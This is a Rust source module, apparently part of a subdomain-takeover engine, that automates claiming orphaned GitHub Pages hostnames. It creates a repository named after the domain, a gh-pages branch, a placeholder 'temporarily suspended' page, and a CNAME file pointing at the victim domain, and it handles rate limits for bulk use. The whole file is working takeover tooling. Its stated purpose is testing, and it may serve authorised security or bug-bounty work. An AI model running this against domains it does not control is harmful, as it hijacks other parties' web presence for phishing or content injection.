// =============================================================================
// takeover/github.rs — ADOPTING ORPHANED GITHUB PAGES
// =============================================================================
//
// A CNAME at *.github.io with GitHub's "There isn't a GitHub Pages site here"
// page means nobody owns the Pages site for that hostname. Whoever creates a
// repo whose gh-pages branch carries a matching CNAME file gets it. Five calls:
//
//   1. POST /user/repos                        repo named after the domain,
//                                              MIT license so a commit exists
//   2. GET  /repos/{o}/{r}/git/ref/heads/{b}   sha of that first commit
//   3. POST /repos/{o}/{r}/git/refs            refs/heads/gh-pages at the sha
//   4. PUT  /repos/{o}/{r}/contents/index.html placeholder page
//   5. PUT  /repos/{o}/{r}/contents/CNAME      the domain itself
//
// A failed step does not stop the steps after it. A step that needs the
// output of a failed step (no repo, no sha, no branch) is skipped with a
// warning. Rate limiting gets its own log line because it is by far the most
// common way this goes wrong.
// =============================================================================

use std::time::Duration;

use base64::{engine::general_purpose, Engine as _};
use reqwest::header::{HeaderMap, HeaderValue, ACCEPT, AUTHORIZATION};
use reqwest::{Response, StatusCode};
use serde::{Deserialize, Serialize};
use tracing::{debug, warn};

use super::TakeoverAction;
use crate::config::GithubCredentials;
use crate::errors::{EngineError, Result};
use crate::models::CreatedResource;

const PAGES_BRANCH: &str = "gh-pages";
const PLACEHOLDER_PAGE: &str = "This domain is temporarily suspended";

// ---------------------------------------------------------------------------
// Wire types. Only the fields we read are declared.
// ---------------------------------------------------------------------------

#[derive(Debug, Serialize)]
struct CreateRepoRequest<'a> {
    name: &'a str,
    description: &'a str,
    private: bool,
    license_template: &'a str,
}

#[derive(Debug, Deserialize)]
struct RepoOwner {
    login: String,
}

#[derive(Debug, Deserialize)]
struct RepoResponse {
    name: String,
    owner: RepoOwner,
    #[serde(default)]
    default_branch: Option<String>,
}

#[derive(Debug, Deserialize)]
struct GitObject {
    sha: String,
}

#[derive(Debug, Deserialize)]
struct RefResponse {
    #[serde(default)]
    url: Option<String>,
    object: GitObject,
}

#[derive(Debug, Serialize)]
struct CreateRefRequest<'a> {
    #[serde(rename = "ref")]
    reference: &'a str,
    sha: &'a str,
}

#[derive(Debug, Serialize)]
struct PutContentRequest<'a> {
    message: &'a str,
    content: String,
    branch: &'a str,
}

#[derive(Debug, Deserialize)]
struct ContentInfo {
    #[serde(default)]
    url: Option<String>,
    #[serde(default)]
    html_url: Option<String>,
}

#[derive(Debug, Deserialize)]
struct PutContentResponse {
    content: ContentInfo,
}

#[derive(Debug, Deserialize)]
struct ApiMessage {
    message: String,
}

/// The repository we just created, as far as the later steps care.
#[derive(Debug, Clone)]
struct Repo {
    owner: String,
    name: String,
    default_branch: String,
}

pub struct GithubTakeover {
    client: reqwest::Client,
    api_url: String,
}

impl GithubTakeover {
    pub fn new(creds: &GithubCredentials, timeout: Duration, user_agent: &str) -> Result<Self> {
        let mut auth = HeaderValue::from_str(&format!("Bearer {}", creds.token))
            .map_err(|_| EngineError::configuration("GitHub token contains invalid characters"))?;
        auth.set_sensitive(true);

        let mut headers = HeaderMap::new();
        headers.insert(AUTHORIZATION, auth);
        headers.insert(ACCEPT, HeaderValue::from_static("application/vnd.github+json"));
        headers.insert("x-github-api-version", HeaderValue::from_static("2022-11-28"));

        let client = reqwest::Client::builder()
            .default_headers(headers)
            .timeout(timeout)
            .user_agent(user_agent)
            .build()
            .map_err(|e| EngineError::http("build GitHub client", e))?;

        Ok(Self {
            client,
            api_url: creds.api_url.trim_end_matches('/').to_string(),
        })
    }

    fn repo_url(&self, repo: &Repo) -> String {
        format!(
            "{}/repos/{}/{}",
            self.api_url,
            urlencoding::encode(&repo.owner),
            urlencoding::encode(&repo.name)
        )
    }

    async fn create_repository(&self, domain: &str) -> Result<Repo> {
        let operation = "create repository";
        let body = CreateRepoRequest {
            name: domain,
            description: "testing subdomain takeovers",
            private: false,
            license_template: "mit",
        };
        let response = self
            .client
            .post(format!("{}/user/repos", self.api_url))
            .json(&body)
            .send()
            .await
            .map_err(|e| EngineError::http(operation, e))?;
        let repo: RepoResponse = decode(check(response, operation).await?, operation).await?;

        Ok(Repo {
            owner: repo.owner.login,
            name: repo.name,
            default_branch: repo.default_branch.unwrap_or_else(|| "main".to_string()),
        })
    }

    async fn head_commit(&self, repo: &Repo) -> Result<String> {
        let operation = "read default branch";
        let response = self
            .client
            .get(format!(
                "{}/git/ref/heads/{}",
                self.repo_url(repo),
                repo.default_branch
            ))
            .send()
            .await
            .map_err(|e| EngineError::http(operation, e))?;
        let reference: RefResponse = decode(check(response, operation).await?, operation).await?;
        Ok(reference.object.sha)
    }

    async fn create_branch(&self, repo: &Repo, sha: &str) -> Result<String> {
        let operation = "create branch";
        let reference = format!("refs/heads/{}", PAGES_BRANCH);
        let response = self
            .client
            .post(format!("{}/git/refs", self.repo_url(repo)))
            .json(&CreateRefRequest {
                reference: &reference,
                sha,
            })
            .send()
            .await
            .map_err(|e| EngineError::http(operation, e))?;
        let created: RefResponse = decode(check(response, operation).await?, operation).await?;

        Ok(created
            .url
            .unwrap_or_else(|| format!("{}/git/{}", self.repo_url(repo), reference)))
    }

    async fn create_file(
        &self,
        repo: &Repo,
        path: &str,
        message: &str,
        content: &str,
    ) -> Result<String> {
        let operation = format!("create {}", path);
        let response = self
            .client
            .put(format!("{}/contents/{}", self.repo_url(repo), path))
            .json(&PutContentRequest {
                message,
                content: general_purpose::STANDARD.encode(content),
                branch: PAGES_BRANCH,
            })
            .send()
            .await
            .map_err(|e| EngineError::http(operation.as_str(), e))?;
        let created: PutContentResponse =
            decode(check(response, &operation).await?, &operation).await?;

        created
            .content
            .url
            .or(created.content.html_url)
            .ok_or_else(|| EngineError::decode(operation, "response carried no file URL"))
    }
}

#[async_trait::async_trait]
impl TakeoverAction for GithubTakeover {
    async fn claim(&self, domain: &str) -> Vec<CreatedResource> {
        let mut created = Vec::new();

        let repo = report(domain, "create repository", self.create_repository(domain).await);
        let Some(repo) = repo else {
            warn!(domain = domain, "No repository, skipping branch and file creation");
            return created;
        };
        debug!(domain = domain, owner = repo.owner.as_str(), repo = repo.name.as_str(), "Repository created");

        let sha = report(domain, "read default branch", self.head_commit(&repo).await);
        let branch = match sha {
            Some(sha) => report(domain, "create branch", self.create_branch(&repo, &sha).await),
            None => {
                warn!(domain = domain, "No commit sha, skipping branch creation");
                None
            }
        };

        let Some(branch_url) = branch else {
            warn!(domain = domain, branch = PAGES_BRANCH, "No pages branch, skipping file creation");
            return created;
        };
        created.push(CreatedResource::new("Branch", branch_url));

        if let Some(url) = report(
            domain,
            "create index.html",
            self.create_file(&repo, "index.html", "Adding the index.html page", PLACEHOLDER_PAGE)
                .await,
        ) {
            created.push(CreatedResource::new("Index File", url));
        }

        if let Some(url) = report(
            domain,
            "create CNAME",
            self.create_file(
                &repo,
                "CNAME",
                "Adding the subdomain to takeover to the CNAME file",
                domain,
            )
            .await,
        ) {
            created.push(CreatedResource::new("CNAME file", url));
        }

        created
    }
}

/// Log a failed step the way an operator wants to read it, and turn the
/// result into an Option for the dependent steps.
fn report<T>(domain: &str, step: &str, result: Result<T>) -> Option<T> {
    match result {
        Ok(value) => Some(value),
        Err(e) if e.is_rate_limit() => {
            warn!(domain = domain, step = step, "hit rate limit");
            None
        }
        Err(e) => {
            warn!(domain = domain, step = step, error = %e, category = %e.category(), "GitHub step failed");
            None
        }
    }
}

/// Pass successful responses through; turn everything else into a typed error.
async fn check(response: Response, operation: &str) -> Result<Response> {
    let status = response.status();
    if status.is_success() {
        return Ok(response);
    }

    let exhausted = response
        .headers()
        .get("x-ratelimit-remaining")
        .and_then(|v| v.to_str().ok())
        .map(|v| v.trim() == "0")
        .unwrap_or(false);
    let body = response.text().await.unwrap_or_default();

    let rate_limited = status == StatusCode::TOO_MANY_REQUESTS
        || (status == StatusCode::FORBIDDEN
            && (exhausted || body.to_ascii_lowercase().contains("rate limit")));
    if rate_limited {
        return Err(EngineError::rate_limited(operation));
    }

    let message = serde_json::from_str::<ApiMessage>(&body)
        .map(|m| m.message)
        .unwrap_or(body);
    Err(EngineError::api(operation, status.as_u16(), message))
}

async fn decode<T: serde::de::DeserializeOwned>(response: Response, operation: &str) -> Result<T> {
    let bytes = response
        .bytes()
        .await
        .map_err(|e| EngineError::http(operation, e))?;
    serde_json::from_slice(&bytes).map_err(|e| EngineError::decode(operation, e.to_string()))
}
